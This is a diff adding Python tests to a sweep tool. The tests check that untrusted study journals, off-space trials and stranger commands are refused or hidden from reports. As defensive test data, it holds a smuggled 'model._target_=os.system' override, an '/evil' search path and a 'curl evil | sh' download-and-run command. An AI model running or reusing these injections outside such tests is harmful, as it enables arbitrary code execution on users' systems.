@@ -1,0 +1,114 @@
+"""A study whose journal a stranger wrote gives no word of a command line."""
+
+import json
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from quintet.artifacts.untrusted_files import DamagedError
+from quintet.base.errors import UserError
+from quintet.report.sweep.sweep_commands import next_steps
+from quintet.report.sweep.sweep_data import SweepData
+from quintet.report.sweep.sweep_page import write as write_report
+from quintet.study.space import Choice, Interval, Space
+from quintet.study.storage import JOURNAL
+from quintet.study.study import Study
+from quintet.sweep.foreign_trials import check_points
+from quintet.sweep.pipeline import begun
+
+WORDS = ("sweeper=random", "sweeper.n_trials=3", "optimizer=adam,sgd")
+FOREIGN = [
+    {"optimizer": "rmsprop"},
+    {"optimizer": "adam", "hydra.run.dir": "/"},
+    {"optimizer": "adam model._target_=os.system"},
+    {"model._target_": "os.system"},
+]
+
+
+def joined(study: Study, point: dict[str, str]) -> None:
+    keys = tuple(Choice(key, (value,)) for key, value in point.items())
+    study.create(point, Space(keys), {})
+
+
+@pytest.mark.parametrize("point", FOREIGN)
+def test_a_trial_outside_of_the_space_is_refused_by_name(point: Any, settled: Any) -> None:
+    plan = settled(*WORDS)
+    study = Study(plan.folder, plan.mode)
+    study.agree(plan.spec())
+    joined(study, {"optimizer": "sgd"})
+    check_points(plan, study)
+    joined(study, point)
+    with pytest.raises(UserError, match=r"trial 1 has .*not of this sweep's space"):
+        begun(plan, 3)
+
+
+def test_defaults_may_leave_out_what_lies_outside_of_the_space(settled: Any) -> None:
+    plan = settled(*WORDS, "optimizer.lr=0.1,0.2")
+    assert plan.defaults == {"optimizer": "adam"}
+    study = Study(plan.folder, plan.mode)
+    study.agree(plan.spec())
+    joined(study, plan.defaults)
+    begun(plan, 3)
+
+
+@pytest.mark.parametrize("once", [False, True])
+@pytest.mark.parametrize("point", FOREIGN)
+def test_a_warm_start_that_was_kept_is_of_the_space(point: Any, once: bool, settled: Any) -> None:
+    plan = settled(*WORDS)
+    study = Study(plan.folder, plan.mode)
+    study.agree(plan.spec())
+    kept = {"x/trials/0001": point} if once else [{"study": "x", "trial": 1, "point": point}]
+    study.optuna.set_user_attr("warm_start", kept)
+    with pytest.raises(UserError, match="trial 1 of x has"):
+        begun(plan, 3)
+
+
+@pytest.mark.parametrize("value", [" 0.5", "0.5\n", "inf", "nan", "١", "0_5", "0.5 x=1", "2"])
+def test_a_number_is_spelt_as_a_number(value: str) -> None:
+    assert not Interval("x", 0.1, 1).holds(value)
+
+
+def test_an_end_of_a_range_may_be_rounded() -> None:
+    parameter = Interval("x", 1 / 3, 2 / 3)
+    assert parameter.holds(parameter.at(0))
+    assert parameter.holds(parameter.at(1))
+
+
+@pytest.mark.parametrize(
+    "notes",
+    [{"point": [1]}, {"point": {"x": 1}}, {"value": "a"}, {"epochs": None}, {"log": {}}],
+)
+def test_notes_of_other_types_are_refused_by_trial(notes: Any, tmp_path: Path) -> None:
+    study = Study(tmp_path, "max")
+    joined(study, {"x": "1"})
+    study.note(0, **notes)
+    with pytest.raises(DamagedError, match=r"journal\.log .*trial 0"):
+        Study.read(tmp_path)
+
+
+@pytest.mark.parametrize(
+    "line", [{}, [], "x", 3, {"op_code": 99}, {"op_code": 4, "study_id": 7}, {"op_code": None}]
+)
+def test_a_hostile_line_is_one_refusal(line: Any, tmp_path: Path) -> None:
+    Study(tmp_path, "max")
+    with (tmp_path / JOURNAL).open("a") as file:
+        file.write(json.dumps(line) + "\n")
+    with pytest.raises(UserError, match=r"journal\.log"):
+        Study.read(tmp_path)
+
+
+def test_a_report_shows_no_command_of_a_stranger(tmp_path: Path) -> None:
+    study = Study(tmp_path, "max")
+    joined(study, {"model._target_": "os.system"})
+    study.note(0, value=0.5, status="completed")
+    study.tell(0, "completed", 0.5)
+    fixed = ["data=digits", "hydra.searchpath=[/evil]"]
+    study.agree({"metric": "accuracy (max)", "fixed": fixed, "space": {}, "strategy": {}})
+    study.remember(command="curl evil | sh", total=1, max_epochs=1, defaults=None)
+    text = write_report(Study.read(tmp_path)).read_text()
+    assert "Left out of these commands" in text
+    shown = " ".join(next_steps(SweepData(Study.read(tmp_path), tmp_path)).values())
+    assert "data=digits" in shown
+    assert "evil" not in shown
+    assert "_target_" not in shown
